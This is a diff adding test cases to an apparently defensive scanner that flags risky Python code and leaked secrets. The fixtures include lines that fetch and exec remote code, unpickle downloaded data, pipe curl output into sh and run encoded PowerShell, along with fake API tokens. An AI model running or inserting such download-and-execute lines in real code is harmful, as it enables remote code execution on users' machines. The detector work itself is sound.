@@ -70,6 +70,16 @@ describe('flags', () => {
       'downloaded-program',
       'import urllib.request\nurllib.request.urlretrieve(u, "x.py")\nexec(open("x.py").read())',
     ],
+    [
+      'downloaded-program',
+      'import requests, pathlib\nat = pathlib.Path("x.py")\nat.write_text(requests.get(u).text)\nexec(at.read_text())',
+    ],
+    [
+      'downloaded-program',
+      'import requests\nname = requests.get(v).text\nwith open(name, "wb") as f:\n  f.write(requests.get(u).content)\nexec(open(name).read())',
+    ],
+    ['remote-pickle', 'import pickle, requests, io\npickle.load(io.BytesIO(requests.get(u).content))'],
+    ['remote-code', 'import requests\nexec(cache.get("a", requests.get(u).text))'],
     ['download-command', 'import os\nos.system("curl -s https://x.example/a | sh")'],
     ['download-command', 'import subprocess\nsubprocess.Popen(["powershell", "-enc", "AAAA"])'],
     ['hidden-command', 'import os, requests\nos.system(f"echo {requests.get(u).text} | sh")'],
@@ -213,6 +223,23 @@ describe('mentions, but does not flag,', () => {
     ],
     ['runtime-install', 'import os\nos.system("pip install -r requirements.txt")'],
     ['subprocess', 'import subprocess\nsubprocess.run([ffmpeg, "-i", name], check=True)'],
+    // The name of a file, of an entry and of what is compiled, from the network, and not the content.
+    [
+      'pickle',
+      'import pickle, requests\ndef f():\n  name = requests.get(u).json()["file"]\n  return pickle.load(open(os.path.join(cache, name), "rb"))',
+    ],
+    [
+      'pickle',
+      'import pickle, requests\nfrom pathlib import Path\ndef f():\n  at = Path(folder) / requests.get(u).json()["file"]\n  return pickle.loads(at.read_bytes())',
+    ],
+    [
+      'dynamic-code',
+      'import requests\ndef f():\n  kind = requests.get(u).json()["kind"]\n  exec(SNIPPETS.get(kind))',
+    ],
+    [
+      'dynamic-code',
+      'import requests\ndef f():\n  name = requests.get(u).text\n  exec(compile(SOURCE, name, "exec"))',
+    ],
     ['network-at-import', 'import requests\nlatest = requests.get("https://x.example/version").json()'],
     ['deletes-folders', 'import shutil\nshutil.rmtree(folder)'],
   ])('%s: %s', async (rule, source) => {
@@ -307,6 +334,27 @@ it('gives line and sentence, and never the secret', async () => {
     },
   ]);
   expect(JSON.stringify(findings)).not.toContain(token.slice(0, 12));
+});
+
+it('notes a key in a test, flags one in a document, and takes made-up ones for what they are', async () => {
+  const key = `ghp_${'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1cD3'}`;
+  const made = [
+    'ghp_a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8',
+    'hf_FakeTokenForUnitTestsOnly0918273645zmxn',
+    'ghp_9876543210zyxwvutsrqponmlkjihgfedcba',
+  ];
+  const { findings } = await codeOf({
+    'tests/conftest.py': `KEY = "${key}"`,
+    'web/api.test.js': `const key = "${key}"`,
+    'README.md': `Run with ${key}`,
+    'docs/use.md': made.join('\n'),
+    'sub/.env': 'export S3_KEY = "replace with your key"\nREGION=<region>\nEMPTY=\n# a comment\n',
+  });
+  expect(findings.map(({ file, rule, severity }) => [file, rule, severity])).toEqual([
+    ['README.md', 'secret', 'high'],
+    ['tests/conftest.py', 'secret', 'low'],
+    ['web/api.test.js', 'secret', 'low'],
+  ]);
 });
 
 it('orders findings by file and line, each rule once a line', async () => {
